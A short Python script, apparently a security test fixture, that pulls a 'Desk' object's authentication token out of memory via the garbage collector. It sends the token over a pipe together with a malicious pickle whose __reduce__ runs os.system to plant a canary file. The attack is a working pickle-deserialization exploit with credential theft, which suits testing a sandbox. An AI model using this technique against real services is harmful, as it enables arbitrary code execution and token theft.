# state: crashed
import os
import struct


def token():
    import gc

    desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")
    return desk.token.encode()


def send(head, body=b""):
    os.write(3, struct.pack(">II", len(head), len(body)) + head + body)


import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/planted",)


send(b'{"value": {"tensor": "0"}, "token": "' + token() + b'"}', pickle.dumps(Evil()))
